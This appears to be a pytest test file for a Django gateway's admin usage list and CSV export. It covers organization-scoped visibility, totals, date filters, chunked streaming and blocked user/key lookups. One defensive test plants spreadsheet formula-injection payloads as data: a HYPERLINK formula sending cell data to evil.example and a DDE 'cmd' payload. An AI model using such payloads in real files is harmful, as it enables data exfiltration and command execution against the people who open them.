"""The usage list an org admin reads: both sides of a call, totals, dates, CSV.

acme (alice) owns a provider; globex (charlie) calls it through a grant. alice
sees that use with globex's name but not charlie's or his key's; charlie sees
it in full; an outsider's admin sees nothing of it.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime
from decimal import Decimal

import pytest
from django.db import connection
from django.http import StreamingHttpResponse
from django.test import Client
from django.test.utils import CaptureQueriesContext

from accounts.models import Membership
from gateway import usage_export
from gateway.models import ApiKey, UsageRecord
from tests.conftest import World
from tests.factories import (
    MembershipFactory,
    OrganizationFactory,
    ProviderFactory,
    UserFactory,
)

pytestmark = pytest.mark.django_db

LIST = "/admin/gateway/usagerecord/"
EXPORT = "/admin/gateway/usagerecord/export.csv"


def _record(**fields: object) -> UsageRecord:
    defaults: dict[str, object] = {
        "endpoint": "chat",
        "model_name": "gpt-test",
        "status_code": 200,
    }
    return UsageRecord.objects.create(**{**defaults, **fields})


@pytest.fixture
def rows(world: World) -> dict[str, UsageRecord]:
    acme_provider = ProviderFactory(organization=world.acme, name="acme-openai")
    globex_provider = ProviderFactory(organization=world.globex, name="globex-own")
    alice_key, _ = ApiKey.issue(world.acme, world.alice, "alice-laptop")
    charlie_key, _ = ApiKey.issue(world.globex, world.charlie, "charlie-secret-key")
    day1 = datetime(2026, 11, 20, 9, 30, tzinfo=UTC)
    day2 = datetime(2026, 11, 21, 15, 0, tzinfo=UTC)
    return {
        "own": _record(
            organization=world.acme, user=world.alice, api_key=alice_key,
            provider=acme_provider, provider_organization=world.acme,
            input_tokens=1200, output_tokens=300, cost=Decimal("0.0042"),
            latency_ms=812, created_at=day1,
        ),
        "own_error": _record(
            organization=world.acme, user=world.alice, api_key=alice_key,
            provider=acme_provider, provider_organization=world.acme,
            status_code=502, error_type="upstream_timeout", latency_ms=30000,
            created_at=day2,
        ),
        # globex's key on acme's provider (a grant shared the model).
        "served": _record(
            organization=world.globex, user=world.charlie, api_key=charlie_key,
            provider=acme_provider, provider_organization=world.acme,
            input_tokens=100, output_tokens=50, cost=Decimal("1.5"),
            latency_ms=90, created_at=day2,
        ),
        # globex on its own provider: acme has nothing to do with it.
        "private": _record(
            organization=world.globex, user=world.charlie, api_key=charlie_key,
            provider=globex_provider, provider_organization=world.globex,
            model_name="globex-private-model", created_at=datetime(
                2025, 3, 4, tzinfo=UTC
            ),
        ),
    }  # fmt: skip


def _client(user: object) -> Client:
    client = Client()
    client.force_login(user)  # type: ignore[arg-type]
    return client


def _ids(response: object) -> set[int]:
    return {r.pk for r in response.context["cl"].result_list}  # type: ignore[attr-defined]


def test_the_provider_owner_sees_others_use_of_its_provider_without_their_names(
    world: World, rows: dict[str, UsageRecord]
) -> None:
    alice = _client(world.alice)
    listing = alice.get(LIST)
    assert _ids(listing) == {rows["own"].pk, rows["own_error"].pk, rows["served"].pk}
    page = listing.content.decode()
    assert "Globex" in page and "on your provider" in page
    for hidden in ("charlie", "charlie-secret-key", "globex-private-model"):
        assert hidden not in page
    detail = alice.get(f"{LIST}{rows['served'].pk}/change/")
    assert detail.status_code == 200
    assert "charlie" not in detail.content.decode()
    assert alice.get(f"{LIST}{rows['private'].pk}/change/").status_code == 404
    # Searching a name of the other organization finds nothing (no inference).
    for term in ("charlie", "charlie-secret"):
        assert _ids(alice.get(LIST, {"q": term})) == set()
    assert _ids(alice.get(LIST, {"q": "alice-laptop"})) == {
        rows["own"].pk,
        rows["own_error"].pk,
    }
    assert _ids(alice.get(LIST, {"caller": "others"})) == {rows["served"].pk}

    charlie = _client(world.charlie)
    theirs = charlie.get(LIST)
    assert _ids(theirs) == {rows["served"].pk, rows["private"].pk}
    text = theirs.content.decode()
    assert "charlie-secret-key" in text and "alice" not in text
    assert charlie.get(f"{LIST}{rows['own'].pk}/change/").status_code == 404

    outsider = UserFactory(username="olga", is_staff=True)
    MembershipFactory(
        user=outsider, organization=OrganizationFactory(), role=Membership.Role.ADMIN
    )
    assert _ids(_client(outsider).get(LIST)) == set()


def test_the_list_reads_as_money_milliseconds_and_status_badges(
    world: World, rows: dict[str, UsageRecord]
) -> None:
    page = _client(world.alice).get(LIST).content.decode()
    assert "$0.0042" in page and "0.0042000000" not in page
    assert "812 ms" in page and "30,000 ms" in page
    assert "1,200 / 300" in page
    assert 'class="usage-badge" data-outcome="ok">200<' in page
    assert (
        'data-outcome="upstream">502</span><span class="usage-sub">upstream_timeout<'
        in page
    )
    # No boolean icons: a red ✖ on "not streamed" read as a failure.
    assert "icon-no" not in page and "icon-yes" not in page
    assert "gateway/usage.css" in page


def test_the_key_list_shows_active_expired_and_revoked_as_badges(
    world: World,
) -> None:
    ApiKey.issue(world.acme, None, "fine")
    ApiKey.issue(world.acme, None, "old", expires_at=datetime(2020, 1, 1, tzinfo=UTC))
    gone, _ = ApiKey.issue(world.acme, None, "gone")
    gone.revoke()
    page = _client(world.alice).get("/admin/gateway/apikey/").content.decode()
    for state in ("active", "expired", "revoked"):
        assert f'data-state="{state}">{state}<' in page
    assert "icon-no" not in page and "icon-yes" not in page


def test_totals_cover_the_filtered_set_above_the_list(
    world: World, rows: dict[str, UsageRecord]
) -> None:
    alice = _client(world.alice)
    everything = alice.get(LIST)
    assert everything.context["usage_totals"] == {
        "requests": "3",
        "input_tokens": "1,300",
        "output_tokens": "350",
        "errors": "1",
    }
    assert everything.context["usage_totals_cost"] == "$1.50"
    page = everything.content.decode()
    assert page.index('class="usage-totals"') < page.index('id="result_list"')
    failed = alice.get(LIST, {"outcome": "upstream"})
    assert failed.context["usage_totals"]["requests"] == "1"
    assert failed.context["usage_totals"]["errors"] == "1"
    assert failed.context["usage_totals_cost"] == "$0"


def test_the_date_drill_down_offers_only_the_viewers_dates(
    world: World, rows: dict[str, UsageRecord]
) -> None:
    alice = _client(world.alice)
    years = alice.get(LIST).context["cl"]
    page = alice.get(LIST).content.decode()
    # acme's rows are all in 2026; globex's private row (2025) offers no year.
    assert years.date_hierarchy == "created_at"
    assert "created_at__year=2025" not in page
    day = alice.get(
        LIST,
        {"created_at__year": 2026, "created_at__month": 11, "created_at__day": 21},
    )
    assert _ids(day) == {rows["own_error"].pk, rows["served"].pk}
    assert day.context["usage_totals"]["requests"] == "2"
    assert (
        "created_at__day=20"
        in alice.get(
            LIST, {"created_at__year": 2026, "created_at__month": 11}
        ).content.decode()
    )


def test_the_csv_export_streams_the_filtered_set_in_chunks(
    world: World, rows: dict[str, UsageRecord], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(usage_export, "EXPORT_CHUNK", 2)
    alice = _client(world.alice)
    page = alice.get(LIST, {"created_at__year": 2026}).content.decode()
    assert f"{EXPORT}?created_at__year=2026" in page  # the link keeps the filters
    response = alice.get(EXPORT)
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment" in response["Content-Disposition"]
    with CaptureQueriesContext(connection) as queries:
        body = b"".join(response.streaming_content).decode()  # type: ignore[arg-type]
    # Three rows, two per query: two chunk queries, read as the body streams.
    assert len(queries) == 2
    table = list(csv.DictReader(io.StringIO(body)))
    assert sorted(r["status_code"] for r in table) == ["200", "200", "502"]
    times = [r["time_utc"] for r in table]
    assert times == sorted(times, reverse=True)  # newest first, like the list
    served = next(r for r in table if r["organization"] == "Globex")
    assert (served["user"], served["api_key"]) == ("", "")
    assert served["provider_organization"] == "Acme Corp"
    assert served["cost_usd"] == "1.5000000000"
    own = next(r for r in table if r["latency_ms"] == "812")
    assert (own["user"], own["api_key"]) == ("alice", "alice-laptop")
    assert "charlie" not in body and "globex-private-model" not in body

    filtered = alice.get(EXPORT, {"outcome": "upstream"})
    lines = b"".join(filtered.streaming_content).decode().splitlines()  # type: ignore[arg-type]
    assert len(lines) == 2 and "upstream_timeout" in lines[1]

    charlie = b"".join(
        _client(world.charlie).get(EXPORT).streaming_content  # type: ignore[arg-type]
    ).decode()
    assert "charlie-secret-key" in charlie and "alice" not in charlie


def test_a_signed_out_visitor_cannot_export(world: World) -> None:
    response = Client().get(EXPORT)
    assert response.status_code == 302
    assert "/login/" in response["Location"]


def test_provider_owner_cannot_filter_callers_rows_by_user_or_key(
    world: World, rows: dict[str, UsageRecord]
) -> None:
    """No lookup on who called: it would split globex's calls by user and key."""
    charlie, key = rows["served"].user_id, rows["served"].api_key_id
    alice = _client(world.alice)
    splits = [
        {"user": charlie},
        {"user_id": charlie},
        {"user__in": f"{charlie},{world.alice.pk}"},
        {"user__gt": 0},
        {"user__id__lte": 10**9},
        {"user__isnull": "True"},
        {"api_key": key},
        {"api_key_id": key},
        {"api_key__isnull": "False"},
        {"api_key__id__gte": 0},
    ]
    for params in splits:
        assert alice.get(LIST, params).status_code == 400, params
        assert alice.get(EXPORT, params).status_code == 400, params
    # The list's own filters still work.
    assert _ids(alice.get(LIST, {"caller": "others", "source": "api"})) == {
        rows["served"].pk
    }
    # Sorting by any column names no caller either.
    for column in range(1, 8):
        page = alice.get(LIST, {"o": str(column)})
        assert page.status_code == 200
        assert "charlie" not in page.content.decode()
    # A superuser sees every row in full, so may filter by user.
    root = UserFactory(username="root", is_staff=True, is_superuser=True)
    assert _ids(_client(root).get(LIST, {"user": charlie})) == {
        rows["served"].pk,
        rows["private"].pk,
    }


def test_export_neutralises_formula_cells(
    world: World, rows: dict[str, UsageRecord]
) -> None:
    world.globex.name = '=HYPERLINK("https://evil.example/?d="&C2,"Globex")'
    world.globex.save()
    ApiKey.objects.filter(name="alice-laptop").update(name="+cmd|' /C calc'!A0")
    UsageRecord.objects.filter(pk=rows["own"].pk).update(model_name="@SUM(1+1)")
    UsageRecord.objects.filter(pk=rows["own_error"].pk).update(
        model_name="-2+3", error_type="\tx"
    )
    body = b"".join(_client(world.alice).get(EXPORT).streaming_content).decode()  # type: ignore[arg-type]
    table = {r["latency_ms"]: r for r in csv.DictReader(io.StringIO(body))}
    served, own, failed = table["90"], table["812"], table["30000"]
    assert served["organization"] == (
        '\'=HYPERLINK("https://evil.example/?d="&C2,"Globex")'
    )
    assert own["api_key"] == "'+cmd|' /C calc'!A0"
    assert own["model"] == "'@SUM(1+1)"
    assert (failed["model"], failed["error_type"]) == ("'-2+3", "'\tx")
    # Numbers and plain names are untouched.
    assert (own["user"], own["input_tokens"], own["cost_usd"]) == (
        "alice",
        "1200",
        "0.0042000000",
    )


def test_export_chunks_are_bounded_by_the_last_key(
    world: World, rows: dict[str, UsageRecord], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Each chunk after the first has ``created_at <= last`` AND-ed in: an index bound.

    The (created_at, pk) comparison alone is an OR, which PostgreSQL applies as
    a filter only: every chunk walked every row already sent. Rows sharing one
    timestamp still come out once each.
    """
    tie = datetime(2026, 11, 22, 8, 0, tzinfo=UTC)
    provider = rows["own"].provider
    same = {
        _record(
            organization=world.acme, provider=provider,
            provider_organization=world.acme, created_at=tie, latency_ms=7,
        ).pk
        for _ in range(5)
    }  # fmt: skip
    monkeypatch.setattr(usage_export, "EXPORT_CHUNK", 2)
    response = _client(world.alice).get(EXPORT)
    with CaptureQueriesContext(connection) as queries:
        body = b"".join(response.streaming_content).decode()  # type: ignore[arg-type]
    table = list(csv.DictReader(io.StringIO(body)))
    assert len(table) == 8 and sum(r["latency_ms"] == "7" for r in table) == len(same)
    chunks = [q["sql"] for q in queries]
    assert len(chunks) == 5  # four full chunks, then an empty one
    bound = re.compile(r'^\(?"gateway_usagerecord"\."created_at" <= ')
    for sql in chunks[1:]:
        where = sql.split(" WHERE ", 1)[1]
        conjuncts = [part.strip() for part in where.split(" AND ")]
        assert any(bound.match(part) for part in conjuncts), sql


def test_export_with_bad_lookup_is_not_a_500(
    world: World, rows: dict[str, UsageRecord]
) -> None:
    alice = _client(world.alice)
    for params in (
        {"created_at__year": "abc"},
        {"latency_ms": "abc"},
        {"created_at__gte": "not-a-date"},
    ):
        listed = alice.get(LIST, params)
        exported = alice.get(EXPORT, params)
        # The export answers as the list does: back to the list, flagged.
        assert listed.status_code == exported.status_code == 302, params
        assert exported["Location"] == listed["Location"] == f"{LIST}?e=1"


def test_cache_tokens_show_in_the_list_the_record_and_the_export_last(
    world: World, rows: dict[str, UsageRecord]
) -> None:
    cached = _record(
        organization=world.acme, input_tokens=5000, output_tokens=20,
        cache_read_tokens=4000, cache_creation_tokens=900, latency_ms=77,
    )  # fmt: skip
    alice = _client(world.alice)
    page = alice.get(LIST).content.decode()
    assert (
        '5,000 / 20<span class="usage-sub">in: 4,000 cache read · 900 cache write'
        in page
    )
    detail = alice.get(f"{LIST}{cached.pk}/change/").content.decode()
    assert "Cache read tokens" in detail and "Cache creation tokens" in detail
    assert "4000" in detail and "900" in detail

    body = b"".join(alice.get(EXPORT).streaming_content).decode()  # type: ignore[arg-type]
    header, *lines = list(csv.reader(io.StringIO(body)))
    # Existing consumers read the columns by position: the new ones come last.
    assert header[:16] == [
        "time_utc", "organization", "user", "api_key", "provider_organization",
        "provider", "model", "endpoint", "source", "stream", "input_tokens",
        "output_tokens", "cost_usd", "latency_ms", "status_code", "error_type",
    ]  # fmt: skip
    assert header[16:] == [
        "cache_read_tokens",
        "cache_creation_tokens",
        "request_id",
        "search_units",
    ]
    table = [dict(zip(header, line, strict=True)) for line in lines]
    row = next(r for r in table if r["latency_ms"] == "77")
    assert (row["cache_read_tokens"], row["cache_creation_tokens"]) == ("4000", "900")
    own = next(r for r in table if r["latency_ms"] == "812")
    assert (own["cache_read_tokens"], own["cache_creation_tokens"]) == ("0", "0")
